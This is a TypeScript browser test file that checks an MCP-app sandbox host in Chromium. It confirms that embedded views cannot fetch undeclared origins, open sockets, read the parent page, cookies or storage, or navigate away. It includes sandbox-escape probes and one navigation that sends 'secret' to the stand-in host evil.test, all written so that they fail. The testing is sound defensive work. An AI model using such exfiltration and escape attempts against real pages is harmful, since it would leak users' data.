// The rung `static`: one file on another port, without a header, in a real Chromium. What holds on every rung is in the tests beside this
// one, such as sandbox-proxy.browser.ts; here is what the file itself has to do.
import { networkInterfaces } from 'node:os';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type HostPages, openHostPages } from '../../../../test/support/browser/host-page.ts';
import { startTestServer, type TestServer } from '../../../../test/support/services/test-server.ts';
import type * as hostModule from '../index.ts';

interface Globals {
  kit: typeof hostModule;
  host: hostModule.Host;
  said: unknown[];
  hashed?: string;
}

const otherAddress = Object.values(networkInterfaces())
  .flat()
  .find(found => found?.family === 'IPv4' && !found.internal)?.address;

/** A document that performs the handshake, and then says the value of an expression. */
const viewThatSays = (expression: string): string => `<!doctype html><p>view</p><script type="module">
  const send = message => parent.postMessage({ jsonrpc: '2.0', ...message }, '*');
  const answered = new Promise(resolve => addEventListener('message', ({ data }) => data.id === 1 && resolve()));
  send({ id: 1, method: 'ui/initialize', params: { appInfo: { name: 'v', version: '1' }, appCapabilities: {}, protocolVersion: '2026-01-26' } });
  await answered;
  send({ method: 'ui/notifications/initialized' });
  const attempt = async make => { try { return await make(); } catch (error) { return error.name; } };
  send({ id: 2, method: 'tools/call', params: { name: 'say', arguments: { said: await (${expression}) } } });
</script>`;

describe.each([
  ['127.0.0.1', '127.0.0.1'],
  ['another address of this machine', otherAddress],
])('a page at %s, its sandbox on another port', (_name, address) => {
  if (address === undefined) return it.skip('there is no such address');
  let pages: HostPages;
  let elsewhere: TestServer;
  let requests = 0;
  beforeAll(async () => {
    pages = await openHostPages({ rung: 'static', address, asShipped: true });
    elsewhere = await startTestServer((_request, response) => {
      requests++;
      response.writeHead(200, { 'access-control-allow-origin': '*' }).end('data');
    });
  });
  afterAll(async () => {
    await elsewhere?.close();
    await pages?.close();
  });

  /** Shows a view, and resolves when it has said something or has failed. */
  async function show(content: string, ui: object = {}) {
    const { page, problems } = await pages.open();
    await page.evaluate(
      ({ content, ui, place }) => {
        const w = window as unknown as Globals;
        w.said = [];
        w.host = w.kit.createHost({
          sandbox: place,
          info: { name: 'page', version: '1' },
          onAction: async action => {
            w.said.push((action as { arguments?: { said?: unknown } }).arguments?.said);
            return {};
          },
          onResource: ({ hash }) => {
            w.hashed = hash;
            return true;
          },
        });
        const part = { type: 'ui-resource', uri: 'ui://a/view', server: 'a', mimeType: 'text/html;profile=mcp-app' };
        w.host
          .surface({ id: 'a', part: { ...part, source: 'tool', content, metadata: { ui } } as never })
          .show(document.querySelector('#root') as HTMLElement);
      },
      { content, ui, place: pages.place },
    );
    await page.waitForFunction(() => {
      const { said, host } = window as unknown as Globals;
      return said.length > 0 || host.find('a')?.getSnapshot().error;
    });
    const state = await page.evaluate(() => {
      const { said, host, hashed } = window as unknown as Globals;
      const { error, containment } = host.find('a')!.getSnapshot();
      return { said: said[0], code: error?.code, message: error?.message, containment, hashed, isSecureContext };
    });
    await page.close();
    return { ...state, problems };
  }

  it('a view reaches the declared origins and no other, by any means', async () => {
    const means = `Promise.all([
      attempt(async () => (await fetch('${elsewhere.origin}')).text()),
      attempt(() => new Promise((resolve, reject) => Object.assign(new Image(), { onload: resolve, onerror: () => resolve('no image'), src: '${pages.origin}/a.png' }))),
      attempt(() => new Promise(resolve => Object.assign(new WebSocket('ws://${address}:9'), { onopen: () => resolve('open'), onerror: () => resolve('no socket') }))),
      attempt(() => import('${pages.origin}/kit.js')),
      attempt(() => eval('1')),
      attempt(() => new Promise(resolve => { const frame = Object.assign(document.createElement('iframe'), { src: '${elsewhere.origin}', onload: () => resolve('shown as ' + frame.contentWindow.length) }); document.body.append(frame); addEventListener('securitypolicyviolation', ({ effectiveDirective }) => effectiveDirective === 'frame-src' && resolve('no frame')); })),
      attempt(() => new Promise(resolve => Object.assign(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))), { onmessage: () => resolve('worker'), onerror: () => resolve('no worker') }))),
    ])`;
    const closed = await show(viewThatSays(means));
    expect(closed.said).toEqual([
      'TypeError',
      'no image',
      'no socket',
      'TypeError',
      'EvalError',
      'no frame',
      'no worker',
    ]);
    // A connection may be opened, for a page that the policy then refuses: without Connection-Allowlist. Nothing is sent by it.
    expect(requests).toBe(0);
    // Views of a page on another address may not have loopback, so an origin on it is refused there.
    const open = await show(viewThatSays(`attempt(async () => (await fetch('${elsewhere.origin}')).text())`), {
      csp: { connectDomains: [elsewhere.origin] },
    });
    expect(open.said).toBe(address === '127.0.0.1' ? 'data' : 'TypeError');
  });

  it('a view reads neither the page nor its sandbox, and no storage of their origins', async () => {
    const { said, containment, problems, hashed } = await show(
      viewThatSays(`Promise.all([
        attempt(() => top.document.title), attempt(() => parent.document.title), attempt(() => parent.location.href),
        attempt(() => document.cookie), attempt(() => indexedDB.open('x')), origin,
        attempt(() => { top.location = 'about:blank'; return 'navigated'; }),
        ['sync-xhr', 'gamepad', 'picture-in-picture', 'storage-access', 'camera'].filter(name => document.featurePolicy.allowsFeature(name)).join(),
        document.referrer,
      ])`),
    );
    const refused = 'SecurityError';
    expect(said).toEqual([refused, refused, refused, refused, refused, 'null', refused, '', '']);
    expect(problems).toEqual([]);
    expect(containment).toMatchObject({ rung: 'static', granted: { dedicated: false } });
    // Hashed without Web Crypto, too: the review is given the hash in any page.
    expect(hashed).toMatch(/^[0-9a-f]{64}$/);
  });

  it('a view that asks for an origin of its own has an opaque one, and the storage that the host keeps', async () => {
    const script = `attempt(() => { localStorage.setItem('a', '1'); return origin + localStorage.getItem('a'); })`;
    expect(await show(viewThatSays(script), { domain: 'a.example' })).toMatchObject({ said: 'null1' });
  });

  const NAVIGATIONS = [
    'location.href = "https://evil.test/?d=secret"',
    'location.href = "about:blank"',
    'location.href = "/sandbox.html?host=null"',
    'location.href = URL.createObjectURL(new Blob(["x"], { type: "text/html" }))',
  ];
  it.each(address === otherAddress ? NAVIGATIONS.slice(0, 1) : NAVIGATIONS)(
    'a view that navigates away is ended: %s',
    async how => {
      expect(await show(viewThatSays(`new Promise(() => { ${how} })`))).toMatchObject({ code: 'navigated' });
    },
  );

  it('a page that the file does not name gets the reason at once', async () => {
    const { page } = await pages.open();
    if (address !== '127.0.0.1') return page.close();
    // The same page by another name is another page.
    await page.goto(pages.origin.replace('127.0.0.1', 'localhost'));
    const refused = await page.evaluate(async place => {
      const { kit } = window as unknown as Globals;
      const host = kit.createHost({ sandbox: place, info: { name: 'page', version: '1' } });
      const part = { type: 'ui-resource', uri: 'ui://a/view', server: 'a', mimeType: 'text/html;profile=mcp-app' };
      const surface = host.surface({ id: 'a', part: { ...part, source: 'tool', content: '<p>view' } as never });
      const failed = new Promise<void>(resolve => surface.subscribe(() => surface.getSnapshot().error && resolve()));
      surface.show(document.querySelector('#root') as HTMLElement);
      await failed;
      const { error } = surface.getSnapshot();
      return { code: error?.code, message: error?.message };
    }, pages.place);
    expect(refused).toEqual({ code: 'sandbox-refused', message: expect.stringContaining('its file names') });
    await page.close();
  });
});
